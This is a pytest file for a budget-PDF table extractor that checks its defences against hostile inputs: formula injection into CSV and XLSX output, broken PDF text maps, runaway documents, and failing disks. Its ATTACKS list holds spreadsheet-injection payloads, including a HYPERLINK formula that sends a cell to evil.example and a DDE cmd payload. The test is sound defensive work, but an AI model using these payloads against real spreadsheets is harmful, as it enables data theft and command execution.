"""Issue 15: hostile PDFs and failing outputs. No formula in any cell, no batch aborted
by one file, no runaway document, nothing half-written. Every hostile input is built
here (tests/hostile.py), a few hundred bytes each."""
from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import io
import json
import os
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner, Result

import hostile
from budgetx import batch
from budgetx.batch import JobResult, find_sources, output_path
from budgetx.cli.app import app
from budgetx.errors import ExitCode, NotAPdf, OutputError, TooComplex
from budgetx.limits import Limits, run_limited
from budgetx.model import Column, Document, Table
from budgetx.reader.pdf import open_pdf
from budgetx.values.text import clean_pdf_text, one_line
from budgetx.writers import WRITERS, WriteOptions, document_to_dict, dumps
from budgetx.writers.cells import XLSX_CELL_MAX, csv_cell, safe_text
from budgetx.writers.combined import Publish, write_combined
from truthdoc import document_from_truth

ROOT = Path(__file__).parent.parent
TESTS = Path(__file__).parent
runner = CliRunner()

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|'/Ccalc'!A0", "+1+2", "-2+3",
           "@SUM(A1:A9)", "\t=1", "＝1+1"]


def run(*args: str | Path) -> Result:
    return runner.invoke(app, [str(a) for a in args])


def hostile_doc(name: str = "=evil.pdf") -> Document:
    """A document whose publisher wrote formulas into names and a department."""
    rows: list[dict[str, str | Decimal | None]] = [
        {"code": "201", "class_code": "201", "name": text, "total": Decimal("-3.00")} for text in ATTACKS]
    rows.append({"code": "202", "class_code": "202", "name": "x" * 40_000, "total": Decimal("1.50")})
    rows.append({"code": "203", "class_code": "203", "name": "bell\x07 esc\x1b surrogate\ud800", "total": None})
    table = Table(3, "expenditure", "部门支出总体情况表", pages=[1], unit="万元",
                  columns=[Column("code", "科目编码"), Column("name", "科目名称"), Column("total", "合计")],
                  rows=rows)
    return Document(name, "0" * 64, 1, department="=HYPERLINK(\"http://x\")", year=2025, unit="万元",
                    tables=[table])


def assert_no_formula_csv(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r＝＋－＠" and not (
                cell[0] == "-" and not cell[1:].replace(".", "").isdigit()), cell


def assert_no_formula_xlsx(path: Path) -> None:
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[0] not in "=+-@\t＝", cell.value


# --- 1. formula injection ---------------------------------------------------------------

def test_text_cells_never_start_a_formula() -> None:
    assert [safe_text(t) for t in ATTACKS] == ["'" + t for t in ATTACKS]
    assert csv_cell(Decimal("-3.00")) == "-3.00"  # amounts stay numbers
    assert csv_cell("-3.00") == "-3.00" and csv_cell("201") == "201"  # a plain number is no formula
    assert csv_cell("一般公共服务支出") == "一般公共服务支出"


def test_per_file_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
    doc = hostile_doc()
    WRITERS["csv"](doc, tmp_path / "csv", WriteOptions())
    text = (tmp_path / "csv" / "03_expenditure.csv").read_text(encoding="utf-8-sig")
    assert_no_formula_csv(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["科目名称"] == "'" + ATTACKS[0] and rows[0]["合计"] == "-3.00"
    WRITERS["xlsx"](doc, tmp_path / "x.xlsx", WriteOptions())
    assert_no_formula_xlsx(tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").worksheets[1]  # after the about sheet
    # 科目编码, 类, 科目名称, 合计
    assert sheet["C2"].value == "'" + ATTACKS[0]
    assert sheet["D2"].value == -3 and sheet["D2"].data_type == "n"
    # JSON keeps the exact text.
    data = json.loads(dumps(document_to_dict(hostile_doc("a.pdf")).get("tables")).replace("\\ud800", ""))
    assert data[0]["rows"][0]["name"] == ATTACKS[0]


def test_xlsx_says_where_a_long_cell_was_cut(tmp_path: Path) -> None:
    WRITERS["xlsx"](hostile_doc(), tmp_path / "x.xlsx", WriteOptions())
    sheet = load_workbook(tmp_path / "x.xlsx").worksheets[1]  # after the about sheet
    long = sheet.cell(row=len(ATTACKS) + 2, column=3).value
    assert isinstance(long, str) and len(long) == XLSX_CELL_MAX
    assert long.endswith("[cut: 40000 characters in all, the JSON output has the full text]")
    # Control characters and a lone surrogate do not stop the workbook.
    assert sheet.cell(row=len(ATTACKS) + 3, column=3).value == "bell\ufffd esc\ufffd surrogate\ufffd"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_combined_outputs_hold_no_formula(tmp_path: Path, fmt: str) -> None:
    doc = hostile_doc()
    doc.tables[0].rows = doc.tables[0].rows[:len(ATTACKS)]
    text = dumps(document_to_dict(doc), indent=None)
    publish = Publish()
    write_combined(publish, tmp_path, fmt, lambda: iter([(["=cmd|'/Ccalc'!A0.pdf"], text)]), WriteOptions())
    publish.commit()
    if fmt == "csv":
        for path in (tmp_path / "combined").iterdir():
            assert_no_formula_csv(path.read_text(encoding="utf-8-sig"))
        row = next(csv.DictReader((tmp_path / "combined" / "03_expenditure.csv").open(encoding="utf-8-sig")))
        assert row["来源文件"] == "'=cmd|'/Ccalc'!A0.pdf" and row["部门"].startswith("'=HYPERLINK")
        assert row["合计"] == "-3.00"
    else:
        assert_no_formula_xlsx(tmp_path / "combined.xlsx")


# --- 2. text from a PDF is cleaned where it is read ---------------------------------------

def test_control_characters_and_lone_surrogates_are_replaced_where_read(tmp_path: Path) -> None:
    path = tmp_path / "cmap.pdf"
    # A broken ToUnicode map: A → U+D800, B → U+0001, C → U+001B.
    path.write_bytes(hostile.text_page([(72, 700, b"ABC hello world and more text")],
                                       hostile.cmap({0x41: 0xD800, 0x42: 0x0001, 0x43: 0x001B})))
    words = [w.text for w in open_pdf(path).pages[0].words]
    assert words[0] == "\ufffd\ufffd\ufffd" and words[1:3] == ["hello", "world"]
    assert clean_pdf_text("a\x01b\ud800c") == "a\ufffdb\ufffdc"


# --- 3. documents get a budget ----------------------------------------------------------

def test_runaway_work_is_stopped_by_time_and_memory() -> None:
    start = time.monotonic()
    with pytest.raises(TooComplex, match="too large or too complex: no progress for 1 s"):
        run_limited("slow.pdf", lambda progress: time.sleep(60), Limits(timeout=1))
    assert time.monotonic() - start < 20

    def hungry(progress: object) -> None:
        chunks = []
        for _ in range(60):  # up to 3 GB if nothing stopped it
            chunks.append(b"x" * (50 << 20))
            time.sleep(0.02)

    own = int(open("/proc/self/statm").read().split()[1]) * os.sysconf("SC_PAGE_SIZE") >> 20
    with pytest.raises(TooComplex, match="needed more than"):
        run_limited("big.pdf", hungry, Limits(timeout=60, max_memory=own + 300))


def test_progress_keeps_a_document_alive_and_errors_come_back() -> None:
    def steady(progress: object) -> str:
        for _ in range(6):
            time.sleep(0.3)
            progress("a page", 1, 1)  # type: ignore[operator]
        return "done"

    assert run_limited("a.pdf", steady, Limits(timeout=1)) == "done"

    def bad(progress: object) -> None:
        raise NotAPdf("a.pdf", "not a PDF file")

    with pytest.raises(NotAPdf) as info:
        run_limited("a.pdf", bad, Limits())
    assert info.value.reason == "not a PDF file" and info.value.exit_code == 3


def test_nested_forms_end_with_exit_3_in_the_cli(tmp_path: Path) -> None:
    path = tmp_path / "nested.pdf"
    path.write_bytes(hostile.nested_forms())
    assert len(path.read_bytes()) < 8000
    start = time.monotonic()
    result = run("extract", path, "-o", tmp_path / "out.json", "--timeout", "2", "--max-memory", "4000")
    assert time.monotonic() - start < 40
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr == f"budgetx: {path}: too large or too complex: no progress for 2 s " \
                            "(raise the limit with --timeout)\n"
    assert not (tmp_path / "out.json").exists()


def test_too_many_pages(tmp_path: Path) -> None:
    path = tmp_path / "long.pdf"
    path.write_bytes(hostile.text_page([(72, 700, b"a page of plain prose")], pages=12))
    result = run("extract", path, "--max-pages", "10")
    assert result.exit_code == ExitCode.BAD_INPUT
    assert "too large or too complex: 12 pages (the limit is 10: raise it with --max-pages)" in result.stderr


def test_a_huge_page_is_rendered_small(tmp_path: Path) -> None:
    pytest.importorskip("numpy")
    from budgetx.reader.ocr import MAX_RENDER_PIXELS, render_page

    path = tmp_path / "huge.pdf"
    path.write_bytes(hostile.huge_image_page())
    assert len(path.read_bytes()) < 2000
    image = render_page(path, 1)
    assert image.shape[0] * image.shape[1] <= MAX_RENDER_PIXELS
    assert image.shape[0] > 1000  # still a usable picture


def test_in_a_batch_the_explosive_file_fails_and_the_others_go_on(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a-nested.pdf").write_bytes(hostile.nested_forms())
    (folder / "b-prose.pdf").write_bytes(hostile.text_page([(72, 700, b"a page of plain prose, no tables")]))
    result = run("extract", folder, "-o", tmp_path / "out", "--jobs", "1", "--timeout", "2")
    assert result.exit_code == ExitCode.BATCH_FAILURES, result.stderr
    failures = {Path(f["file"]).name: f for f in csv.DictReader(
        (tmp_path / "out" / "failures.csv").open(encoding="utf-8-sig"))}
    assert failures["a-nested.pdf"]["reason"].startswith("too large or too complex: no progress")
    assert failures["a-nested.pdf"]["exit_code"] == "3"
    assert failures["b-prose.pdf"]["exit_code"] == str(int(ExitCode.NO_TABLES))


# --- batches with the extraction replaced -------------------------------------------------

@pytest.fixture()
def fake_job(monkeypatch: pytest.MonkeyPatch) -> None:
    def job(path: str, tables: frozenset[int] | None = None, limits: object = None) -> JobResult:
        data = Path(path).read_bytes()
        sha = hashlib.sha256(data).hexdigest()
        doc = document_from_truth()
        doc.sha256, doc.file = sha, Path(path).name
        return JobResult(path, sha, dumps(document_to_dict(doc), indent=None))

    monkeypatch.setattr(batch, "run_job", job)


def fake_pdf(path: Path, tag: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(f"%PDF-1.7\n% {tag}\n".encode())
    return path


def test_a_writer_failure_is_that_files_failure(fake_job: None, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    real = WRITERS["xlsx"]

    def fragile(doc: Document, target: Path | io.BytesIO, options: WriteOptions) -> None:
        if doc.file == "bad.pdf":
            raise ValueError("IllegalCharacterError")
        real(doc, target, options)  # type: ignore[arg-type]

    monkeypatch.setitem(WRITERS, "xlsx", fragile)
    folder, out = tmp_path / "in", tmp_path / "out"
    fake_pdf(folder / "bad.pdf", "bad")
    fake_pdf(folder / "good.pdf", "good")
    result = run("extract", folder, "-o", out, "-f", "xlsx", "--jobs", "1")
    assert result.exit_code == ExitCode.BATCH_FAILURES, result.stderr
    assert "internal error writing its output: ValueError: IllegalCharacterError" in result.stderr
    assert (out / "good.xlsx").exists() and not (out / "bad.xlsx").exists()
    sources = {r[1].value for r in load_workbook(out / "combined.xlsx")["documents"].iter_rows(min_row=2)}
    assert sources == {"good.pdf"}


def test_combined_pdf_keeps_its_own_workbook(fake_job: None, tmp_path: Path) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    fake_pdf(folder / "combined.pdf", "named like the combined output")
    fake_pdf(folder / "other.pdf", "other")
    assert [s.name for s in find_sources([folder])] == ["combined~2.pdf", "other.pdf"]
    assert output_path(out, "combined~2.pdf", "xlsx") == out / "combined~2.xlsx"
    result = run("extract", folder, "-o", out, "-f", "xlsx", "--jobs", "1")
    assert result.exit_code == 0, result.stderr
    assert load_workbook(out / "combined~2.xlsx").sheetnames[:2] == ["about", "1 部门收支总体情况表"]
    assert load_workbook(out / "combined.xlsx").sheetnames[-1] == "checks"


def test_stale_temporaries_are_removed_and_a_second_run_is_refused(fake_job: None, tmp_path: Path) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    fake_pdf(folder / "a.pdf", "a")
    (out / "combined").mkdir(parents=True)
    stale = [out / ".combined.sqlite.k3j_x9a2.tmp", out / "combined" / ".03_expenditure.csv.abcdefgh.tmp"]
    for path in stale:
        path.write_bytes(b"left by a killed run")
    (out / ".a_csv.12345678.tmp").mkdir()
    keep = out / ".notes.tmp"
    keep.write_text("not ours")
    assert run("extract", folder, "-o", out, "--jobs", "1").exit_code == 0
    assert not any(p.exists() for p in stale) and not (out / ".a_csv.12345678.tmp").exists()
    assert keep.exists()
    with (out / ".budgetx" / "lock").open("ab") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)  # another run is busy here
        result = run("extract", folder, "-o", out, "--jobs", "1")
    assert result.exit_code == ExitCode.OUTPUT
    assert result.stderr.startswith(f"budgetx: {out}: another budgetx run is writing to this folder")
    assert len(result.stderr.splitlines()) == 1


def test_a_dangling_pdf_link_is_reported(fake_job: None, tmp_path: Path) -> None:
    folder, out = tmp_path / "in", tmp_path / "out"
    fake_pdf(folder / "a.pdf", "a")
    (folder / "gone.pdf").symlink_to(tmp_path / "deleted.pdf")
    result = run("extract", folder, "-o", out, "--jobs", "1")
    assert result.exit_code == ExitCode.BATCH_FAILURES
    assert f"budgetx: {folder / 'gone.pdf'}: broken symbolic link (to {tmp_path / 'deleted.pdf'}" in result.stderr


# --- 4. output faults ---------------------------------------------------------------------

def _csv_doc(*numbers: int) -> Document:
    doc = document_from_truth()
    doc.tables = [t for t in doc.tables if t.no in numbers]
    return doc


def test_csv_folder_is_written_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "x_csv"
    written = []
    real = Path.write_bytes

    def full_disk(self: Path, data: bytes) -> int:
        if len(written) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        written.append(self)
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", full_disk)
    with pytest.raises(OutputError, match="No space left on device"):
        WRITERS["csv"](_csv_doc(1, 2, 3, 5), target, WriteOptions())
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []  # no CSV written so far, no temporary folder


def test_csv_folder_in_the_way_changes_nothing(tmp_path: Path) -> None:
    target = tmp_path / "x_csv"
    WRITERS["csv"](_csv_doc(1, 2, 7), target, WriteOptions())
    before = {p.name: p.read_bytes() for p in target.iterdir()}
    (target / "03_expenditure.csv").mkdir()
    with pytest.raises(OutputError, match="a folder is in the way"):
        WRITERS["csv"](_csv_doc(1, 2, 3), target, WriteOptions())
    assert {p.name: p.read_bytes() for p in target.iterdir() if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x_csv"]


def test_csv_folder_holds_exactly_the_new_version(tmp_path: Path) -> None:
    target = tmp_path / "x_csv"
    WRITERS["csv"](_csv_doc(1, 2, 7), target, WriteOptions())
    (target / "notes.txt").write_text("the user's own file")
    WRITERS["csv"](_csv_doc(1, 2), target, WriteOptions())
    assert sorted(p.name for p in target.iterdir()) == ["01_budget_summary.csv", "02_revenue.csv", "notes.txt"]


DRIVER = """
import sys
sys.path[:0] = [{root!r}, {tests!r}]
from budgetx import batch
from budgetx.cli import app as cli
from budgetx.writers import document_to_dict, dumps
from truthdoc import document_from_truth
cli._extract = lambda *args, **kwargs: document_from_truth()
batch.run_job = lambda path, *args: batch.JobResult(path, batch.file_sha256(__import__("pathlib").Path(path)),
                                                    dumps(document_to_dict(document_from_truth()), indent=None))
sys.argv = ["budgetx", *sys.argv[1:]]
cli.app()
"""


def _cli(args: list[str], **kwargs: object) -> subprocess.CompletedProcess[str]:
    code = DRIVER.format(root=str(ROOT), tests=str(TESTS))
    return subprocess.run([sys.executable, "-c", code, *args], stderr=subprocess.PIPE, text=True,
                          timeout=120, **kwargs)  # type: ignore[call-overload,no-any-return]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs Linux's /dev/full")
def test_stdout_on_a_full_disk_is_exit_4(tmp_path: Path) -> None:
    pdf = fake_pdf(tmp_path / "a.pdf", "a")
    pdf2 = fake_pdf(tmp_path / "b.pdf", "b")
    with open("/dev/full", "w") as full:
        for args in (["extract", str(pdf), "-o", "-"],
                     ["extract", str(pdf), str(pdf2), "-f", "jsonl", "-o", "-", "--jobs", "1"]):
            result = _cli(args, stdout=full)
            assert result.returncode == ExitCode.OUTPUT, result.stderr
            assert result.stderr == "budgetx: -: cannot write to stdout: No space left on device\n"


def test_closed_stdout_is_exit_4(tmp_path: Path) -> None:
    pdf = fake_pdf(tmp_path / "a.pdf", "a")
    result = _cli(["extract", str(pdf), "-o", "-"], stdout=subprocess.DEVNULL,
                  preexec_fn=lambda: os.close(1))
    assert result.returncode == ExitCode.OUTPUT, result.stderr
    assert result.stderr == "budgetx: -: cannot write: stdout is closed\n"


# --- 5. smaller ---------------------------------------------------------------------------

def test_a_newline_in_a_file_name_stays_on_one_line(tmp_path: Path) -> None:
    result = run("extract", tmp_path / "two\nlines\x1b[31m.pdf")
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr == f"budgetx: {tmp_path}/two\\nlines\\x1b[31m.pdf: no such file\n"
    assert one_line("a\udcffb") == "a\\xffb"
